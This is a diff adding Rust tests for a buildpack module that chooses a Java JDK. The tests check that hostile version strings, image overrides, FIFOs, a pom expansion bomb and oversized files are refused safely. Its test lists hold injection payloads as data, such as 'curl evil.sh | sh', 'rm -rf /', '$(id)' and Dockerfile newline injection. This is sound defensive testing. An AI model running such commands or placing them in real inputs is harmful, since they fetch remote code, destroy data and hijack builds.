@@ -1,0 +1,280 @@
+//! Hostile or missing inputs: refused with a short error naming them, nothing written, in
+//! bounded time.
+
+use crate::support::{
+    JDK_ONLY, STACK_ID, UBI8, UBI9, app, app_with, assert_failure, assert_success, fixture,
+    jdk_package, plan, with_catalogue,
+};
+use cnb_harness::{ModuleRun, Process, TargetEnv};
+use std::time::Duration;
+
+const HOSTILE: &[&str] = &[
+    "17\nRUN curl evil.sh | sh",
+    "17; rm -rf /",
+    "$(id)",
+    "17-$(id)",
+    "17 && id",
+    "'17'",
+    "\"17\"",
+    "`id`",
+    "17 21",
+    "${HOME}",
+];
+
+#[test]
+fn hostile_versions_are_rejected_and_nothing_is_written() {
+    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
+    for version in HOSTILE {
+        let quoted = format!("{:?}", version.trim());
+        // BP_JVM_VERSION.
+        let outcome = ModuleRun::new(&module, app("empty-app"))
+            .lifecycle_env(STACK_ID, UBI8)
+            .platform_env("BP_JVM_VERSION", version)
+            .buildpack_plan(&plan(None))
+            .generate();
+        assert_failure(
+            &outcome,
+            &[&format!(
+                "ERROR: Invalid Java version request\n  the Java version {quoted} requested by \
+                 BP_JVM_VERSION is not a Java version"
+            )],
+        );
+        // A plan version.
+        let outcome = ModuleRun::new(&module, app("empty-app"))
+            .lifecycle_env(STACK_ID, UBI8)
+            .buildpack_plan(&plan(Some((version, "pom.xml"))))
+            .generate();
+        assert_failure(
+            &outcome,
+            &[&format!(
+                "ERROR: Invalid Java version request\n  the Java version {quoted} requested by \
+                 build plan jdk from pom.xml is not a Java version"
+            )],
+        );
+        // .java-version: its first line decides (a value parse_major would accept for its
+        // major, 17-$(id), is rejected for its characters); a second line is never read.
+        let dir = app_with(&[(".java-version", version)]);
+        let outcome = ModuleRun::new(&module, dir.path())
+            .lifecycle_env(STACK_ID, UBI8)
+            .buildpack_plan(&plan(None))
+            .generate();
+        if version.contains('\n') {
+            assert_success(&outcome);
+            assert_eq!(jdk_package(&outcome), "java-17-openjdk-devel");
+        } else {
+            assert_failure(&outcome, &[".java-version"]);
+        }
+        // A pom property. An unresolvable `${...}` reference names no version: the default.
+        let pom = format!(
+            "<project><properties><maven.compiler.release>{}</maven.compiler.release>\
+             </properties></project>",
+            version.replace('&', "&amp;")
+        );
+        let dir = app_with(&[("pom.xml", &pom)]);
+        let outcome = ModuleRun::new(&module, dir.path())
+            .lifecycle_env(STACK_ID, UBI8)
+            .buildpack_plan(&plan(None))
+            .generate();
+        if version.contains("${") {
+            assert_success(&outcome);
+            assert!(outcome.process.stdout.contains("using the default, 17"));
+        } else {
+            assert_failure(&outcome, &["pom.xml"]);
+        }
+        for dockerfile in [&outcome.build_dockerfile, &outcome.run_dockerfile] {
+            let dockerfile = dockerfile.as_deref().unwrap_or_default();
+            assert!(!dockerfile.contains("HOME") && !dockerfile.contains("evil"));
+        }
+    }
+    // A hostile version source only reaches the log and the error, escaped.
+    let outcome = ModuleRun::new(&module, app("empty-app"))
+        .lifecycle_env(STACK_ID, UBI8)
+        .buildpack_plan(&plan(Some(("99", "x\nRUN id"))))
+        .generate();
+    assert_failure(&outcome, &["\"99\" (build plan jdk from \"x\\nRUN id\") "]);
+    assert!(
+        outcome
+            .process
+            .stdout
+            .contains("      build plan jdk from \"x\\nRUN id\" -> \"99\"\n")
+    );
+}
+
+#[test]
+fn hostile_overrides_are_rejected_and_nothing_is_written() {
+    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
+    for image in [
+        "x\nRUN id",
+        "ubuntu; id",
+        "ubuntu $(id)",
+        "\"localhost/run\"",
+        "localhost/run latest",
+        "${base_image}",
+    ] {
+        let outcome = ModuleRun::new(&module, app("java-maven-release-21"))
+            .lifecycle_env(STACK_ID, UBI8)
+            .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", image)
+            .buildpack_plan(&plan(None))
+            .generate();
+        assert_failure(
+            &outcome,
+            &[&format!(
+                "ERROR: Cannot choose the run image\n  BP_UBI_RUN_IMAGE_OVERRIDE: {image:?} is not \
+                 an image reference"
+            )],
+        );
+    }
+}
+
+#[test]
+fn no_jdk_or_jre_entry_writes_nothing_and_unknown_stacks_are_errors() {
+    let (module, _dir) = with_catalogue(&fixture("images-ubi9.json"));
+    let outcome = ModuleRun::new(&module, app("empty-app"))
+        .lifecycle_env(STACK_ID, UBI9)
+        .buildpack_plan("[[entries]]\nname = \"jvm-application\"\n")
+        .generate();
+    assert_eq!(outcome.process.exit_code, 0, "{}", outcome.process.stderr);
+    assert!(outcome.files.is_empty(), "{:?}", outcome.files);
+    assert!(
+        outcome
+            .process
+            .stdout
+            .contains("  No jdk or jre in the Buildpack Plan: nothing to install\n")
+    );
+
+    let outcome = ModuleRun::new(&module, app("empty-app"))
+        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.jammy")
+        .buildpack_plan(&plan(None))
+        .generate();
+    assert_failure(
+        &outcome,
+        &[
+            "ERROR: Not a UBI stack\n  unsupported stack \"io.buildpacks.stacks.jammy\" (CNB_STACK_ID)",
+        ],
+    );
+
+    let outcome = ModuleRun::new(&module, app("empty-app"))
+        .target(TargetEnv::linux_amd64("ubuntu", "24.04"))
+        .buildpack_plan(&plan(None))
+        .generate();
+    assert_failure(
+        &outcome,
+        &["CNB_STACK_ID is not set and the target distro is \"ubuntu\" \"24.04\""],
+    );
+}
+
+/// Generate, killed after the harness's hang guard: the process (`None` when it hung) and how long it ran.
+fn generate_bounded(run: &ModuleRun) -> (Option<Process>, Duration) {
+    run.run_bounded("generate", cnb_harness::HANG_GUARD)
+}
+
+#[test]
+fn fifos_are_errors_not_hangs() {
+    let dir = tempfile::tempdir().unwrap();
+    let fifo_catalogue = dir.path().join("images.json");
+    cnb_harness::mkfifo(&fifo_catalogue);
+    let (module, _module_dir) = with_catalogue(&fifo_catalogue);
+    let run = ModuleRun::new(&module, app("empty-app"))
+        .lifecycle_env(STACK_ID, UBI9)
+        .buildpack_plan(&plan(None));
+    let (process, took) = generate_bounded(&run);
+    let process = process.unwrap_or_else(|| panic!("generate hung ({took:?})"));
+    assert_eq!(process.exit_code, 1, "{}", process.stderr);
+    assert_eq!(
+        process.stderr,
+        format!(
+            "ERROR: Cannot use the stack's Java catalogue\n  cannot read the Java version \
+             catalogue {}: it is a FIFO, not a regular file. The file must be readable by the \
+             build user.\n",
+            fifo_catalogue.display()
+        )
+    );
+
+    let catalogue = fixture("images-ubi9.json");
+    let (module, _module_dir) = with_catalogue(&catalogue);
+    for file in [
+        ".sdkmanrc",
+        ".java-version",
+        "META-INF/MANIFEST.MF",
+        "pom.xml",
+        "build.gradle",
+        "build.gradle.kts",
+    ] {
+        let app = tempfile::tempdir().unwrap();
+        cnb_harness::mkfifo(&app.path().join(file));
+        let run = ModuleRun::new(&module, app.path())
+            .lifecycle_env(STACK_ID, UBI9)
+            .buildpack_plan(JDK_ONLY);
+        let (process, took) = generate_bounded(&run);
+        let process = process.unwrap_or_else(|| panic!("generate hung on {file} ({took:?})"));
+        assert_eq!(process.exit_code, 1, "{file}: {}", process.stderr);
+        assert!(
+            process.stderr.starts_with(&format!(
+                "ERROR: Cannot use the app's Java version\n  cannot read the app's Java version: {} \
+                 is a FIFO, not a regular file.",
+                app.path().join(file).display()
+            )),
+            "{file}: {}",
+            process.stderr
+        );
+    }
+}
+
+#[test]
+fn a_pom_expansion_bomb_fails_naming_the_file() {
+    // The 641-byte pom of issue 13: nine levels of properties, each referencing the next ten
+    // times (generate ran past 30 s building a 200 MB string). The work is bounded by the
+    // substitution and size limits: the error says which one stopped it.
+    let pom = std::fs::read_to_string(fixture("pom-expansion-bomb.xml")).unwrap();
+    let app = app_with(&[("pom.xml", &pom)]);
+    let (module, _module_dir) = with_catalogue(&fixture("images-ubi9.json"));
+    let run = ModuleRun::new(&module, app.path())
+        .lifecycle_env(STACK_ID, UBI9)
+        .buildpack_plan(JDK_ONLY);
+    let (process, took) = generate_bounded(&run);
+    let process = process.unwrap_or_else(|| panic!("generate hung ({took:?})"));
+    assert_eq!(process.exit_code, 1, "{}", process.stderr);
+    assert!(
+        process.stderr.starts_with(
+            "ERROR: Cannot use the app's Java version\n  pom.xml sets the Java version with \
+             <maven.compiler.release>, but its ${...} property references expand to more than \
+             1024 bytes"
+        ),
+        "{}",
+        process.stderr
+    );
+}
+
+#[test]
+fn a_ten_megabyte_java_version_prints_a_short_error() {
+    let (module, _module_dir) = with_catalogue(&fixture("images-ubi9.json"));
+    // Under the read limit: the value is refused and quoted cut.
+    let app = app_with(&[(".java-version", &"1".repeat(60_000))]);
+    let outcome = ModuleRun::new(&module, app.path())
+        .lifecycle_env(STACK_ID, UBI9)
+        .buildpack_plan(JDK_ONLY)
+        .generate();
+    assert_failure(&outcome, &["… (cut, 60000 bytes in all)"]);
+    assert!(
+        outcome.process.stderr.len() < 1000,
+        "{}",
+        outcome.process.stderr
+    );
+    assert!(
+        outcome.process.stdout.len() < 1000,
+        "{}",
+        outcome.process.stdout
+    );
+    // 10 MB: over the read limit.
+    let app = app_with(&[(".java-version", &"1".repeat(10 << 20))]);
+    let outcome = ModuleRun::new(&module, app.path())
+        .lifecycle_env(STACK_ID, UBI9)
+        .buildpack_plan(JDK_ONLY)
+        .generate();
+    assert_failure(&outcome, &[".java-version is larger than 65536 bytes"]);
+    assert!(
+        outcome.process.stderr.len() < 1000,
+        "{}",
+        outcome.process.stderr
+    );
+}
